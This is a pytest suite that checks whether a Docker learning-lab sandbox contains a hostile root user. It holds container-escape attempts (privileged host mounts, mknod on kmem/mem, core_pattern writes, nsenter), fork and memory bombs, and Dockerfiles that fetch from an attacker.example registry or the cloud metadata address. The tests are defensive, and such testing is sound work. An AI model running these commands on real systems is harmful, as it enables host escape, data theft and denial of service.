"""Hostile items 8, 22, 23 and 25 in real labs: what a learner who is root there tries stays there.

A learner's commands are run as the learner runs them, through the lab's own Docker client.
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from lessons.contracts import Ask, ExecResult, LabShape, Place, Plan
from lessons.sandbox import Lab, LabGoneError, Sandbox
from tests.sandbox.running import eventually, lab_sandbox

pytestmark = [pytest.mark.docker, pytest.mark.hostile]

SHAPE = LabShape("docker")
BASE = "FROM busybox:1.37\n"


@pytest.fixture(scope="module")
def sandbox(engine_socket: Path, lock_dir: Path) -> Iterator[Sandbox]:
    """Without a pool: two labs are opened by the tests themselves."""
    with lab_sandbox(engine_socket, lock_dir) as made:
        yield made


@pytest.fixture(scope="module")
def lab(sandbox: Sandbox) -> Iterator[Lab]:
    opened = sandbox.open_lab(SHAPE, owner="hostile-one", lifetime=1200)
    try:
        opened.wait_ready(60)
        yield opened
    finally:
        opened.end()


@pytest.fixture(scope="module")
def neighbour(sandbox: Sandbox) -> Iterator[Lab]:
    opened = sandbox.open_lab(SHAPE, owner="hostile-two", lifetime=1200)
    try:
        opened.wait_ready(60)
        yield opened
    finally:
        opened.end()


def sh(lab: Lab, script: str, seconds: float = 40) -> ExecResult:
    return lab.run(["bash", "-c", script], seconds=seconds)


def said(result: ExecResult) -> str:
    return (result.stdout + result.stderr).decode(errors="replace")


def works(lab: Lab) -> bool:
    """A container can still be run in the lab."""
    return sh(lab, "docker run --rm busybox:1.37 echo fine").stdout == b"fine\n"


def test_privileged_container_sees_the_lab_and_nothing_of_the_engine(lab: Lab) -> None:
    """Item 23. The root that it mounts is the lab's own: the engine's images, socket and data are not in it."""
    seen = sh(
        lab,
        "docker run --rm --privileged -v /:/h busybox:1.37 sh -c "
        "'cat /h/etc/hostname; ls /h; ls /h/labs /h/images /h/run/naru/docker.sock 2>&1; cat /h/proc/1/cmdline'",
    )
    text = said(seen)
    assert "naru-attendant" in text, "pid 1 is the lab's, not the engine's"
    assert "naru-engine" not in text
    assert text.count("No such file") == 3
    assert works(lab)


@pytest.mark.parametrize(
    "node",
    ["b 254 0", "b 8 0", "c 10 203", "c 1 2", "c 1 1", "c 10 229"],
    ids=["vda", "sda", "cuse", "kmem", "mem", "fuse"],
)
def test_device_nodes_lead_to_no_device_of_the_host(lab: Lab, node: str) -> None:
    """Item 23. A node may be made; what it names cannot be opened."""
    tried = sh(
        lab,
        f"rm -f /root/node; mknod /root/node {node} && timeout 5 head -c 512 /root/node >/dev/null; echo rc=$?",
    )
    assert "rc=0" not in said(tried), said(tried)


def test_device_node_of_the_labs_own_can_be_read(lab: Lab) -> None:
    """What the refusals above are told from."""
    tried = sh(lab, "rm -f /root/zero; mknod /root/zero c 1 5 && head -c 512 /root/zero | wc -c")
    assert tried.stdout == b"512\n"


@pytest.mark.parametrize(
    "command",
    [
        """perl -e 'exit(syscall(175, my $image = "x" x 64, 64, my $options = "") == -1)'""",
        "echo 1 > /proc/sys/kernel/core_pattern",
        "mount -t debugfs none /mnt",
        "mount -t cgroup2 none /mnt && echo 1 > /mnt/cgroup.procs",
        "nsenter -t 1 -a -- ls /labs/bin",
        "ls /var/run/naru/docker.sock",
    ],
    ids=["module", "core-pattern", "debugfs", "cgroup", "nsenter", "engine-socket"],
)
def test_ways_out_of_a_container_lead_nowhere(lab: Lab, command: str) -> None:
    """Item 23, the usual tricks of a privileged container."""
    assert sh(lab, f"({command}) >/dev/null 2>&1", seconds=20).exit_code != 0


def test_tools_of_the_lab_cannot_be_changed(lab: Lab) -> None:
    """Probes come from a path that even the lab's root cannot write, also after mounting it anew."""
    tried = sh(
        lab,
        "echo '#!/bin/sh' > /naru/bin/naru-attendant; rm -f /naru/bin/naru-attendant;"
        "mount -o remount,rw /naru/bin; echo x >> /naru/bin/naru-attendant; touch /naru/bin/new; ls /naru/bin",
    )
    assert tried.stdout == b"naru-attendant\n"
    (answer,) = lab.ask([Ask("exec", '{"argv": ["echo", "still"]}')], seconds=15)
    assert answer["stdout"] == "still\n"


def test_labs_side_by_side_reach_nothing_of_each_other(lab: Lab, neighbour: Lab) -> None:
    """Item 25: engine, files and network of another lab; item 8: no network beyond the lab at all."""
    sh(neighbour, "echo secret-of-two > /root/secret; docker run -d --name own-web -p 8080:80 nginx:1.26")
    listen = """perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(LocalPort => 2375, Listen => 5, ReuseAddr => 1);
        while ($c = $s->accept) { print $c "HTTP/1.0 200 OK\\r\\n\\r\\nhello"; close $c }'"""
    sh(neighbour, f"nohup {listen} >/dev/null 2>&1 &", seconds=10)
    addresses = sh(neighbour, "hostname -I").stdout.decode().split()
    assert addresses
    fetch = "curl -s -m 2 http://{0}:8080/; curl -s -m 2 http://{0}:2375/"
    eventually(lambda: (own := sh(neighbour, fetch.format(addresses[0])).stdout).endswith(b"hello") and b"nginx" in own)
    assert works(lab)
    assert "own-web" not in sh(lab, "docker ps -a --format '{{.Names}}'").stdout.decode()
    links = json.loads(sh(lab, "ip -json link").stdout)
    assert {link["ifname"] for link in links if link["ifname"].startswith(("eth", "en"))} == set()
    for address in [*addresses, "10.0.2.2", "172.31.255.254"]:
        assert sh(lab, fetch.format(address)).stdout == b"", address
    search = "grep -rls secret-of-two / --include=secret --exclude-dir=proc --exclude-dir=sys 2>/dev/null"
    assert sh(neighbour, search, 60).stdout == b"/root/secret\n"
    assert sh(lab, search, 60).stdout == b""


def test_families_of_sockets_that_leave_a_sandbox_are_missing(lab: Lab) -> None:
    """Item 8: nothing leads to the host's kernel or its hypervisor, and there is no way out of the lab's network."""
    attempt = "perl -MSocket -e 'exit !socket(my $s, {0}, {1}, 0)'"
    unix, vsock, alg = (1, 1), (40, 1), (38, 5)
    assert sh(lab, attempt.format(*unix)).exit_code == 0
    for family in (vsock, alg):
        assert sh(lab, attempt.format(*family)).exit_code != 0, family
    assert sh(lab, "ip route show default").stdout == b""


def ask_build(sandbox: Sandbox, dockerfile: str, **more: object) -> dict:
    request = {"files": {"Dockerfile": dockerfile}, "seconds": 40, **more}
    ask = Ask("build", json.dumps(request, sort_keys=True), place=Place.FRESH, environment="docker", seconds=60)
    evidence = sandbox.collect(Plan(runs={}, answer={}, asks={"b": ask}), owner="hostile", deadline=120)
    return dict(evidence.answers["b"])


@pytest.mark.parametrize(
    "dockerfile",
    [
        "# syntax=attacker/x\n" + BASE,
        "FROM registry.attacker.example/base\n",
        BASE + "ADD http://169.254.169.254/latest /meta\n",
        BASE + "COPY --from=attacker/tools /bin/sh /sh\n",
        BASE + "RUN --mount=type=secret,id=x cat /run/secrets/x\n",
        BASE + "RUN --network=host true\n",
        BASE + "RUN --security=insecure true\n",
    ],
    ids=["syntax", "from", "add-url", "copy-from", "secret", "host-network", "insecure"],
)
def test_dockerfile_that_reaches_out_is_refused_with_a_reason(lab: Lab, dockerfile: str) -> None:
    """Item 22. Asked in a lab that is there already: nothing is built."""
    request = json.dumps({"files": {"Dockerfile": dockerfile}, "seconds": 20}, sort_keys=True)
    (answer,) = lab.ask([Ask("build", request, seconds=20)], seconds=25)
    assert answer["built"] is False
    assert answer["refused"].endswith(("요.", "요"))


def test_dockerfile_that_floods_is_contained(sandbox: Sandbox) -> None:
    """Item 22: the layer store is a sized tmpfs, and the build ends by itself."""
    began = time.monotonic()
    answer = ask_build(sandbox, BASE + "RUN yes > /f\n")
    assert answer["built"] is False
    assert "no space left" in answer["log"].lower() or answer.get("ended") == "time"
    assert time.monotonic() - began < 90


def test_dockerfile_of_ten_thousand_layers_ends(sandbox: Sandbox) -> None:
    """Item 22."""
    answer = ask_build(sandbox, BASE + "RUN true\n" * 10_000)
    assert answer["built"] is False
    assert len(answer["log"]) <= 70_000


def test_memory_bomb_ends_itself_or_its_lab_and_nothing_else(sandbox: Sandbox, neighbour: Lab) -> None:
    """Whom the lab's limit hits is the kernel's choice: the one process, mostly, or all of the lab."""
    victim = sandbox.open_lab(SHAPE, owner="bomb", lifetime=300)
    try:
        victim.wait_ready(60)
        with suppress(LabGoneError):
            assert sh(victim, "perl -e 'push @a, q(x) x (1 << 24) while 1'", seconds=60).exit_code != 0
        assert victim.killed_by_memory()
        assert not victim.outlives() or works(victim)
    finally:
        victim.end()
    assert works(neighbour)


def test_fork_bomb_in_a_container_leaves_the_lab_usable(lab: Lab) -> None:
    """Processes of containers are capped inside: the outer limit would take the whole sandbox."""
    sh(lab, "docker run -d --name bomb busybox:1.37 sh -c ':(){ :|:& };:; sleep 60'", seconds=20)
    eventually(lambda: lab.stats()["processes"] > 250, seconds=20)
    time.sleep(2)  # it goes on and gets no further
    sh(lab, "docker rm -f bomb", seconds=30)
    eventually(lambda: works(lab), seconds=40)


def test_lab_shows_no_secret_of_the_portal(lab: Lab) -> None:
    """Environment, mounts and process list tell nothing of host, engine or portal."""
    text = said(sh(lab, "env; cat /proc/mounts /proc/1/environ | tr '\\0' '\\n'"))
    for word in ("SECRET", "NARU_DATA", str(Path.cwd()), os.uname().nodename):
        assert word not in text, word
